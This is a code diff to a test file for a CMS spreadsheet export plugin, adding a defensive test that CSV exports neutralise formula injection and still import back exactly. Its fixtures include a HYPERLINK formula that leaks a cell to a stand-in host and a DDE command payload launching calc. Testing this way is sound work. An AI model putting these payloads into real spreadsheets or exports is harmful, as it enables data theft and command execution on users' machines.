@@ -2,6 +2,7 @@
  * The spreadsheet way in and out (Payload's import-export plugin): a CSV export that imports back,
  * and imports that are all or nothing, naming each bad line and why.
  */
+import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 
 import { freshDatabaseUri } from '../helpers/database'
@@ -23,11 +24,11 @@ const items = async () => (await rest(cms.url, 'items?limit=100&depth=0&sort=nam
 /** The columns Uncle Pat edits (rich-text descriptions stay out of his spreadsheet). */
 const COLUMNS = ['id', 'name', 'sku', 'price', 'quantity', '_status']
 
-async function exportCsv(): Promise<string> {
+async function exportCsv(fields = COLUMNS): Promise<string> {
   const response = await fetch(`${cms.url}/api/exports/download`, {
     method: 'POST',
     headers: { authorization: `JWT ${token}`, 'content-type': 'application/json' },
-    body: JSON.stringify({ data: { collectionSlug: 'items', format: 'csv', fields: COLUMNS } }),
+    body: JSON.stringify({ data: { collectionSlug: 'items', format: 'csv', fields } }),
   })
   expect(response.status).toBe(200)
   return response.text()
@@ -105,6 +106,54 @@ describe('CSV export and import', () => {
     expect(problems[5]).toMatch(/name/)
     expect(problems[7]).toMatch(/sku: "GOOD-1" is also on line 2/)
     expect(await items()).toEqual(before)
+  })
+
+  it('writes no live spreadsheet formula, and the file still imports back exactly (OWASP CSV injection)', async () => {
+    // Names a spreadsheet would run as formulas, and text the guard must not confuse with its own '.
+    const names = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+      '+SUM(1,2)',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(A1:A2)',
+      '＝1+1 (full-width)',
+      "'Quoted' Kopi",
+      "''Twice Quoted",
+      '-5',
+      '1.50',
+      'true',
+      'null',
+    ]
+    for (const [index, name] of names.entries()) {
+      const created = await rest(cms.url, 'items', {
+        method: 'POST',
+        token,
+        // A slug and a SKU that look like numbers, which the CSV reader would otherwise turn into numbers.
+        body: { name, slug: index === 1 ? '2024' : `csv-guard-${index}`, sku: index === 0 ? '12345' : undefined, price: 100 + index, quantity: index, _status: 'published' },
+      })
+      expect(created.status, JSON.stringify(created.body)).toBe(201)
+    }
+    const before = await items()
+
+    const csv = await exportCsv([...COLUMNS, 'slug'])
+    const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true })
+    for (const row of rows) {
+      for (const cell of [row.name, row.sku, row.slug]) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
+    }
+    const cells = rows.map((row) => row.name)
+    for (const name of names) expect(cells).toContain(`'${name}`)
+    expect(rows.find((row) => row.name.startsWith("'=HYPERLINK"))!.sku).toBe("'12345")
+    expect(rows.find((row) => row.name === "'+SUM(1,2)")!.slug).toBe("'2024")
+    // The cell that holds commas and quotes is quoted as a whole: nothing spills into the next cell.
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`)
+
+    const result = await importCsv(csv, { importMode: 'update', matchField: 'id' })
+    expect(result.status, JSON.stringify(result.summary)).toBe('completed')
+    const after = await items()
+    for (const { updatedAt: _saved, ...item } of after) {
+      const { updatedAt: _before, ...was } = before.find((one) => one.id === item.id)!
+      expect(item).toEqual(was)
+    }
+    expect(after.map((item) => item.name)).toEqual(expect.arrayContaining(names))
   })
 
   it('is for staff only', async () => {
